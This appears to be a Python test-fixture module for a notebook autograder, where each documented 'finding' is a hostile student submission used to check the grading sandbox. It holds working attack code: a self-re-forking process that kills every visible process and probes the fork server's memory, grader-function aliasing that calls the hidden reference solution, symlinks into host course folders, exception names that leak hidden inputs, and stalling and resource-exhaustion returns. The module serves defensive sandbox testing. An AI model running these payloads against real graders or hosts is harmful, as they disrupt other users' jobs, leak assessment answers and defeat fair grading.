"""The findings of issue 15 as submissions: what a determined student with the release and the kit's
code in hand handed in, plus further attacks on each guarantee the issue asks for.

Each is a :class:`synthetic.attacks.Hostile` (the instructor's solution of notebook 1 with edits,
inserted cells and changes to its structure); :data:`VICTIMS` are honest submissions graded after
them, which must score exactly what their code deserves. Finding 7a (a network that memorises the
training labels) is left to the lecture-accuracy checks' own tests.
"""

from __future__ import annotations

from nbformat.notebooknode import NotebookNode

from synthetic.attacks import ZERO_RELU, Hostile
from synthetic.banks import ACTS, NB1, Edit

#: The submission budget of the findings' course (seconds): the stalling submission would need
#: several minutes without it.
BUDGET = 45
#: Cells of the stalling submission, each sleeping just under the cell timeout (10 s).
STALL_CELLS = 12

#: Finding 1. A process that outlives the student's own: it forks anew and lets its parent exit
#: every few milliseconds (a list of processes taken to kill it is always stale) and kills every
#: process it can see but the fork server and its init. Without a PID namespace per student it
#: kills the next student's worker (every later student graded by that worker crashed); it also
#: tries to write the fork server's memory. It starts while the definitions load (a default
#: argument) and in the kernel.
HYDRA = """
import os, signal, time
keep = {1, os.getppid()}
try:
    with open(f"/proc/{os.getppid()}/mem", "r+b"):
        print("fork server memory: " + "OPENED")
except OSError:
    print("fork server memory: refused")
if os.fork() == 0:
    os.setsid()
    end = time.time() + 150
    while time.time() < end:
        try:
            if os.fork() != 0:
                os._exit(0)
        except OSError:
            time.sleep(0.05)
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) not in keep | {os.getpid()}:
                try:
                    os.kill(int(entry), signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.01)
    os._exit(0)
"""

_HYDRA_AT_LOAD = f"def _spawn_hydra(_=exec({HYDRA!r})):\n    pass\n"


#: Finding 2: each graded activation is bound (a class body, then a plain alias) to an object that,
#: when the checks call it, looks the grader's version up in the process (``sys.modules``; it may be
#: imported only after the definitions load) and calls it past any runtime guard wrapped around it
#: (the function it closes over), else the student's own. No graded ``def`` changes, so a scan of
#: the ``def`` statements alone sees only the honest (broken) code.
_ALIASES_THE_REFERENCE = """


import sys as _sys


def _unwrapped(function, name):
    for cell in getattr(function, "__closure__", None) or ():
        inner = cell.cell_contents
        if callable(inner) and getattr(inner, "__name__", "") == name and inner is not function:
            return _unwrapped(inner, name)
    return function


class _AtCallTime:
    def __init__(self, name, mine):
        self.name, self.mine = name, mine

    def __call__(self, *args, **kwargs):
        for module_name, module in list(_sys.modules.items()):
            found = getattr(module, "__dict__", {}).get(self.name)
            if "reference" in module_name and callable(found):
                return _unwrapped(found, self.name)(*args, **kwargs)
        return self.mine(*args, **kwargs)


class _Graded:
    relu = _AtCallTime("relu", relu)
    tanh = _AtCallTime("tanh", tanh)
    sigmoid = _AtCallTime("sigmoid", sigmoid)
    leaky_relu = _AtCallTime("leaky_relu", leaky_relu)


relu = _Graded.relu
tanh = _Graded.tanh
sigmoid = _Graded.sigmoid
leaky_relu = _Graded.leaky_relu
"""


def _alias_to_reference(nb: NotebookNode) -> None:
    """Finding 2: :data:`_ALIASES_THE_REFERENCE` appended to the activations' cell."""
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == ACTS)
    cell.source += _ALIASES_THE_REFERENCE


def _grade_flag_on_solution(nb: NotebookNode) -> None:
    """Finding 6b: ``grade: true`` (with points) set on a solution cell."""
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == ACTS)
    cell.metadata["nbgrader"].update(grade=True, points=50)


#: Finding 5: links to folders of the host (the course) in every folder of the sandbox the host
#: shares or prepares: the kernel's own socket folder, its home, and a new folder next to its
#: socket folder (the shared folder of all kernels' sockets), which the host clears before it
#: starts the next kernel. Host-side preparation or clean-up must never follow them.
_LINKS = """
import os
from ipykernel import get_connection_file
own = os.path.dirname(get_connection_file())
shared = os.path.join(os.path.dirname(own), "zz-left-behind")
try:
    os.makedirs(os.path.join(shared, "deeper"), exist_ok=True)
except OSError:
    pass
made = 0
for folder in (own, os.getcwd(), shared, os.path.join(shared, "deeper")):
    for index, target in enumerate(("{course}", "{course}/release", "{course}/source")):
        try:
            os.symlink(target, os.path.join(folder, f"host-{index}"))
            made += 1
        except OSError:
            pass
print("links made:", made)
"""

#: Finding 4: names of exception types and warning categories built from the hidden inputs,
#: a megabyte long each.
_LEAKY_NAMES = (
    Edit(
        ACTS,
        "return np.maximum(0, x)",
        "raise type('LEAK' + repr(np.asarray(x).tolist()) * 2000, (ValueError,), {})('no')",
    ),
    Edit(
        ACTS,
        "x = np.clip(x, -500, 500)",
        "import warnings\n"
        "    warnings.warn('w', type('WLEAK' + repr(np.asarray(x).tolist()) * 2000, "
        "(UserWarning,), {}))\n"
        "    x = np.clip(x, -500, 500)",
    ),
)

#: Finding 3: a return value built to cost time wherever it is walked (a chain of lists sharing
#: each level: 2**60 leaves, 60 objects), and cells that each sleep just under the timeout.
_COSTLY_RETURN = Edit(
    ACTS,
    "return np.where(x > 0, x, alpha * x)",
    "value = []\n    for _ in range(60):\n        value = [value, value]\n    return value",
)

FINDINGS = [
    Hostile("f1-hydra", NB1, edits=(ZERO_RELU,), cells=(_HYDRA_AT_LOAD, HYDRA)),
    Hostile("f2-aliases-the-reference", NB1, edits=(ZERO_RELU,), tamper=_alias_to_reference),
    Hostile(
        "f3-stalls",
        NB1,
        edits=(_COSTLY_RETURN,),
        cells=("import time\ntime.sleep(9)",) * STALL_CELLS,
    ),
    Hostile("f4-leaky-names", NB1, edits=_LEAKY_NAMES),
    Hostile("f5-links", NB1, edits=(ZERO_RELU,), cells=(_LINKS,)),
    Hostile(
        "f6-local-nn",
        NB1,
        edits=(Edit(ACTS, "return np.maximum(0, x)", "nn = np.maximum(0, x)\n    return nn"),),
    ),
    Hostile("f6-grade-flag", NB1, tamper=_grade_flag_on_solution),
]

#: Honest submissions graded after the findings (the student ids sort after them).
VICTIMS = [Hostile(f"victim-{index}", NB1) for index in range(3)]


def by_id(id: str) -> Hostile:
    return next(hostile for hostile in FINDINGS + VICTIMS if hostile.id == id)
